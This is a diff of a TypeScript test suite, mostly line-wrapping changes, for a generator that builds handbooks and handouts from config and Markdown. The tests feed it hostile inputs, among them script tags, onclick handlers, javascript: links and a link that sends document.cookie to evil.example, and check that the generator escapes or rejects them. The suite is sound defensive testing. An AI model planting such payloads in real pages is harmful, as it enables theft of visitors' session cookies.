@@ -33,7 +33,12 @@ beforeAll(async () => {
   writeFileSync(join(work, 'config.yaml'), hostileConfig(['beta-mode', 'alpha-mode']));
   let stderr = '';
   const env = { PLAYBOOK_CONTENT_DIR: CONTENT, CHROMIUM_PATH: join(work, 'no-chromium') };
-  const code = await runCli(['generate', '-c', 'config.yaml', '-q'], { stdout: () => {}, stderr: (t) => void (stderr += t), cwd: work, env });
+  const code = await runCli(['generate', '-c', 'config.yaml', '-q'], {
+    stdout: () => {},
+    stderr: (t) => void (stderr += t),
+    cwd: work,
+    env,
+  });
   expect(code, stderr).toBe(0);
   out = join(work, 'out');
 });
@@ -49,24 +54,29 @@ function parseHtml(file: string): { text: string; tree: HastRoot } {
 }
 
 describe('every string from the config is text in every output', () => {
-  test.each(['handbook.html', 'handouts/01-beta-mode.html'])('%s holds the company name as text only, never as markup or CSS', (file) => {
-    const { text, tree } = parseHtml(file);
-    expect(text).toContain(HOSTILE_TEXT.company);
-    const tags = new Set<string>();
-    const handlers: string[] = [];
-    visit(tree, 'element', (node: Element) => {
-      tags.add(node.tagName);
-      for (const name of Object.keys(node.properties ?? {})) if (/^on/i.test(name)) handlers.push(`${node.tagName}.${name}`);
-    });
-    expect(tags.has('script')).toBe(false);
-    expect(handlers).toEqual([]);
-    const styles: string[] = [];
-    visit(tree, 'element', (node: Element) => {
-      if (node.tagName === 'style') styles.push(node.children.map((c) => ('value' in c ? c.value : '')).join(''));
-    });
-    expect(styles).toHaveLength(1);
-    expect(styles[0]).not.toMatch(/Évil|alert|display:none/);
-  });
+  test.each(['handbook.html', 'handouts/01-beta-mode.html'])(
+    '%s holds the company name as text only, never as markup or CSS',
+    (file) => {
+      const { text, tree } = parseHtml(file);
+      expect(text).toContain(HOSTILE_TEXT.company);
+      const tags = new Set<string>();
+      const handlers: string[] = [];
+      visit(tree, 'element', (node: Element) => {
+        tags.add(node.tagName);
+        for (const name of Object.keys(node.properties ?? {}))
+          if (/^on/i.test(name)) handlers.push(`${node.tagName}.${name}`);
+      });
+      expect(tags.has('script')).toBe(false);
+      expect(handlers).toEqual([]);
+      const styles: string[] = [];
+      visit(tree, 'element', (node: Element) => {
+        if (node.tagName === 'style')
+          styles.push(node.children.map((c) => ('value' in c ? c.value : '')).join(''));
+      });
+      expect(styles).toHaveLength(1);
+      expect(styles[0]).not.toMatch(/Évil|alert|display:none/);
+    },
+  );
 
   test('handbook.html shows every field as written', () => {
     const { text } = parseHtml('handbook.html');
@@ -83,7 +93,9 @@ describe('every string from the config is text in every output', () => {
     visit(tree, 'link', (node) => void links.push(node.url));
     visit(tree, 'html', (node) => void html.push(node.value));
     // GFM viewers turn a bare https address into a link; anything else would be markup from a field.
-    expect(links.filter((url) => !url.startsWith('#'))).toEqual(links.filter((url) => url === 'https://evil.example/x?y=1'));
+    expect(links.filter((url) => !url.startsWith('#'))).toEqual(
+      links.filter((url) => url === 'https://evil.example/x?y=1'),
+    );
     expect(html).toEqual([]);
     let headings = 0;
     visit(tree, 'heading', (node) => void (toString(node).includes('Not a heading') && headings++));
@@ -101,7 +113,13 @@ describe('every string from the config is text in every output', () => {
   });
 
   test('the folder holds only what the generator writes', () => {
-    expect(readdirSync(out).sort()).toEqual(['.playbook-handbook', 'handbook.html', 'handbook.md', 'handouts', 'training-plan.ics']);
+    expect(readdirSync(out).sort()).toEqual([
+      '.playbook-handbook',
+      'handbook.html',
+      'handbook.md',
+      'handouts',
+      'training-plan.ics',
+    ]);
   });
 });
 
@@ -114,7 +132,9 @@ describe('a value filled into frontmatter text is isolated like all user text', 
       });
       expect(items.length, file).toBeGreaterThan(0);
       for (const item of items) {
-        const isolates = item.children.filter((c): c is Element => c.type === 'element' && c.tagName === 'bdi');
+        const isolates = item.children.filter(
+          (c): c is Element => c.type === 'element' && c.tagName === 'bdi',
+        );
         expect(isolates.map(toText), file).toEqual([HOSTILE_TEXT.company]);
       }
     }
@@ -130,7 +150,10 @@ describe('a value filled into frontmatter text is isolated like all user text', 
     const hebrew = 'שירות 50 ₪';
     const library = await sharedLibrary(resolve('content'));
     const recovery = library.modes.find((m) => m.id === 'no-recovery-plan')!;
-    const html = kitHtml(applyVariables(recovery, { refundLimit: hebrew }), { company: 'אבג', accent: '#123456' });
+    const html = kitHtml(applyVariables(recovery, { refundLimit: hebrew }), {
+      company: 'אבג',
+      accent: '#123456',
+    });
     expect(html).toContain(`goodwill credit up to <bdi>${hebrew}</bdi>.`);
     expect(html).not.toMatch(/[\u2068\u2069]/);
     expect(JSON.stringify(applyVariables(recovery, {}))).not.toMatch(/[\u2068\u2069]/);
@@ -161,7 +184,11 @@ describe('links, images and markup in a page body', () => {
     ['a path on our site', '[understaffing](/modes/understaffing/)', '/modes/understaffing/'],
     ['a relative path', '[the sources](../sources/)', '../sources/'],
     ['an anchor', '[the plays](#plays)', '#plays'],
-    ['a reference to an https address', '[the guide][g]\n\n[g]: https://example.org/guide', 'https://example.org/guide'],
+    [
+      'a reference to an https address',
+      '[the guide][g]\n\n[g]: https://example.org/guide',
+      'https://example.org/guide',
+    ],
     ['a bare web address', 'See www.example.org today.', 'http://www.example.org'],
   ])('a link to %s stays a link', async (_what, body, href) => {
     const { html, markdown } = await render(body);
@@ -182,18 +209,21 @@ describe('links, images and markup in a page body', () => {
     ['another host through backslashes', '[click me](\\\\\\\\evil.example/x)', 'evil.example'],
     ['another host through a slash and a backslash', '[click me](/\\evil.example/x)', 'evil.example'],
     ['a reference to javascript', '[click me][x]\n\n[x]: javascript:alert(1)', 'javascript:', 14],
-  ])('a link to %s is shown as its words only, and the check names its line', async (_what, body, written, line = 12) => {
-    const { html, markdown } = await render(`Intro.\n\n${body}\n`);
-    expect(html).toContain('click me');
-    expect(html).not.toMatch(/<a\b/);
-    expect(markdown).toContain('click me');
-    expect(markdown).not.toMatch(/\]\(|^\[x\]:/m);
-    const problems = checkBody(PAGE, `Intro.\n\n${body}\n`, 10);
-    expect(problems).toHaveLength(1);
-    expect(problems[0]).toMatchObject({ file: PAGE, line });
-    expect(problems[0]!.message).toContain(written);
-    expect(problems[0]!.message).toMatch(/https:, http:, mailto: or a path/);
-  });
+  ])(
+    'a link to %s is shown as its words only, and the check names its line',
+    async (_what, body, written, line = 12) => {
+      const { html, markdown } = await render(`Intro.\n\n${body}\n`);
+      expect(html).toContain('click me');
+      expect(html).not.toMatch(/<a\b/);
+      expect(markdown).toContain('click me');
+      expect(markdown).not.toMatch(/\]\(|^\[x\]:/m);
+      const problems = checkBody(PAGE, `Intro.\n\n${body}\n`, 10);
+      expect(problems).toHaveLength(1);
+      expect(problems[0]).toMatchObject({ file: PAGE, line });
+      expect(problems[0]!.message).toContain(written);
+      expect(problems[0]!.message).toMatch(/https:, http:, mailto: or a path/);
+    },
+  );
 
   test.each([
     ['a web image', '![a pixel](https://evil.example/pixel.png)'],
@@ -222,7 +252,11 @@ describe('links, images and markup in a page body', () => {
   });
 
   test.each([
-    ['between paragraphs', 'Intro.\n\n<script>alert(1)</script>\n\nAfter.', '&#x3C;script>alert(1)&#x3C;/script>'],
+    [
+      'between paragraphs',
+      'Intro.\n\n<script>alert(1)</script>\n\nAfter.',
+      '&#x3C;script>alert(1)&#x3C;/script>',
+    ],
     ['inside a sentence', 'Intro <b onclick="alert(1)">bold</b> end.', '&#x3C;b onclick="alert(1)">'],
   ])('raw HTML %s in plain Markdown (no MDX) is shown as text', async (_what, body, escaped) => {
     const file = new VFile({ path: PAGE, value: body });
@@ -239,10 +273,18 @@ describe('links, images and markup in a page body', () => {
     const dir = mkdtempSync(join(work, 'library-'));
     cpSync(CONTENT, join(dir, 'content'), { recursive: true });
     const page = join(dir, 'content', 'failure-modes', 'beta-mode.mdx');
-    writeFileSync(page, `${readFileSync(page, 'utf8')}\n[Claim your refund](javascript:fetch('//evil.example/'+document.cookie))\n`);
+    writeFileSync(
+      page,
+      `${readFileSync(page, 'utf8')}\n[Claim your refund](javascript:fetch('//evil.example/'+document.cookie))\n`,
+    );
     writeFileSync(join(dir, 'config.yaml'), hostileConfig(['beta-mode']));
     let stderr = '';
-    const code = await runCli(['generate', '-c', 'config.yaml', '--content', 'content'], { stdout: () => {}, stderr: (t) => void (stderr += t), cwd: dir, env: { CHROMIUM_PATH: join(dir, 'no-chromium') } });
+    const code = await runCli(['generate', '-c', 'config.yaml', '--content', 'content'], {
+      stdout: () => {},
+      stderr: (t) => void (stderr += t),
+      cwd: dir,
+      env: { CHROMIUM_PATH: join(dir, 'no-chromium') },
+    });
     expect(code, stderr).toBe(1);
     expect(stderr).toMatch(/beta-mode\.mdx:\d+:\d+ {2}.*javascript:/);
     expect(readdirSync(dir).sort()).toEqual(['config.yaml', 'content']);
@@ -273,9 +315,19 @@ describe('years below 100', () => {
 
   test('the handbook cover, its training plan and the calendar show the year as written', async () => {
     const dir = mkdtempSync(join(work, 'years-'));
-    writeFileSync(join(dir, 'config.yaml'), hostileConfig(['beta-mode', 'alpha-mode']).replace('date: 2025-03-01', 'date: 0050-06-01').replace('start: 2025-03-03', 'start: 0001-01-01'));
+    writeFileSync(
+      join(dir, 'config.yaml'),
+      hostileConfig(['beta-mode', 'alpha-mode'])
+        .replace('date: 2025-03-01', 'date: 0050-06-01')
+        .replace('start: 2025-03-03', 'start: 0001-01-01'),
+    );
     let stderr = '';
-    const code = await runCli(['generate', '-c', 'config.yaml', '-q'], { stdout: () => {}, stderr: (t) => void (stderr += t), cwd: dir, env: { PLAYBOOK_CONTENT_DIR: CONTENT, CHROMIUM_PATH: join(dir, 'no-chromium') } });
+    const code = await runCli(['generate', '-c', 'config.yaml', '-q'], {
+      stdout: () => {},
+      stderr: (t) => void (stderr += t),
+      cwd: dir,
+      env: { PLAYBOOK_CONTENT_DIR: CONTENT, CHROMIUM_PATH: join(dir, 'no-chromium') },
+    });
     expect(code, stderr).toBe(0);
     const html = readFileSync(join(dir, 'out', 'handbook.html'), 'utf8');
     expect(html).toContain('<time datetime="0050-06-01">1 June 50</time>');
